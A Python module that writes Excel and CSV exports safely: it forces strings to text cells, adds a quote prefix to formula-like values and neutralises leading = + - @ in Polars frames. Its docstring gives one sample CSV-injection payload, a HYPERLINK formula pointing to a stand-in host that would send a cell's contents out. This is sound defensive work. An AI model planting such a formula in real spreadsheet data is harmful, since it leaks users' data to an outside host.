"""The one way every Excel export writes a cell (XlsxWriter): text as text, never a formula.

XlsxWriter's ``write()`` turns a string starting with "=" into a formula, so a department's
enterprise name ``=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`` would become a live link in
the registry export. ``Cells.write`` writes every string with ``write_string`` (a text cell, kept
exactly as typed), and a string starting with = + - @ (or a tab or carriage return) also with the
format's quote prefix, as if typed with a leading apostrophe in Excel: it stays text even when a
user edits the cell. Numbers are written as numbers only when finite (an infinite or NaN value is
shown as text rather than failing the whole workbook); dates as dates, flags as flags.

Formats are asked for by their properties (``cells(bold=True)``) and cached per workbook; the
quote-prefixed twin of a format is made the same way. Pure XlsxWriter: no Django.
"""

from __future__ import annotations

import math
from collections.abc import Iterable
from datetime import date, datetime, time
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read the text as a formula (CSV injection's leading characters)."""
    return text.startswith(FORMULA_START)


def csv_safe(value: Any) -> Any:
    """A value for a CSV export: formula-like text gets a leading apostrophe (OWASP's advice)."""
    return f"'{value}" if isinstance(value, str) and formula_like(value) else value


# The leading characters a CSV output neutralises (OWASP): = + - @. Only in text columns, never in a
# credit-code column (codes are checked by other programs byte for byte) and never in numbers.
CSV_FORMULA_START = "=+-@"
CODE_COLUMNS = frozenset({"credit_code", "统一社会信用代码"})


def csv_safe_frame(frame):
    """csv_safe() on every text cell of a Polars frame at once (whole-column expressions): a text
    starting with = + - @ gets a leading apostrophe; numeric, date and flag columns and the
    credit-code column are left exactly as they are."""
    import polars as pl

    pattern = "^[" + "".join("\\" + c for c in CSV_FORMULA_START) + "]"
    text = [
        name
        for name, dtype in frame.schema.items()
        if dtype in (pl.Utf8, pl.Categorical) and name not in CODE_COLUMNS
    ]
    if not text:
        return frame
    return frame.with_columns(
        pl.when(pl.col(c).cast(pl.Utf8).str.contains(pattern))
        .then(pl.concat_str([pl.lit("'"), pl.col(c).cast(pl.Utf8)]))
        .otherwise(pl.col(c).cast(pl.Utf8))
        .alias(c)
        for c in text
    )


class Cells:
    """Cached formats of one workbook and the safe writers."""

    def __init__(self, book, base: dict | None = None) -> None:
        self.book = book
        self.base = dict(base or {})
        self.cache: dict[tuple, Any] = {}

    def __call__(self, **props):
        """The format with these properties (added to ``base``); cached."""
        merged = {**self.base, **props}
        key = tuple(sorted(merged.items()))
        if key not in self.cache:
            self.cache[key] = self.book.add_format(merged) if merged else None
        return self.cache[key]

    def write(
        self, sheet, row: int, col: int, value: Any, fmt: dict | None = None, *, blank: bool = False
    ) -> None:
        """One cell. ``fmt``: format properties (see __call__). ``blank``: write an empty cell with
        the format for None (otherwise None is skipped)."""
        props = fmt or {}
        if value is None:
            if blank:
                sheet.write_blank(row, col, None, self(**props))
            return
        if isinstance(value, bool):
            sheet.write_boolean(row, col, value, self(**props))
        elif isinstance(value, int | float):
            if math.isfinite(value):
                sheet.write_number(row, col, value, self(**props))
            else:
                sheet.write_string(row, col, str(value), self(**props))
        elif isinstance(value, datetime):
            sheet.write_datetime(row, col, value.replace(tzinfo=None), self(**props))
        elif isinstance(value, date):
            sheet.write_datetime(row, col, datetime.combine(value, time()), self(**props))
        else:
            self.write_text(sheet, row, col, str(value), props)

    def write_text(self, sheet, row: int, col: int, text: str, fmt: dict | None = None) -> None:
        props = dict(fmt or {})
        if formula_like(text):
            props["quote_prefix"] = True
        sheet.write_string(row, col, text, self(**props))

    def write_row(self, sheet, row: int, col: int, values: Iterable[Any], fmt: dict | None = None) -> None:
        for offset, value in enumerate(values):
            self.write(sheet, row, col + offset, value, fmt)

    def merge_text(self, sheet, first_row: int, first_col: int, last_row: int, last_col: int, text: str,
                   fmt: dict | None = None) -> None:  # fmt: skip
        """merge_range with the text written as text."""
        props = dict(fmt or {})
        sheet.merge_range(first_row, first_col, last_row, last_col, "", self(**props))
        self.write_text(sheet, first_row, first_col, text, props)
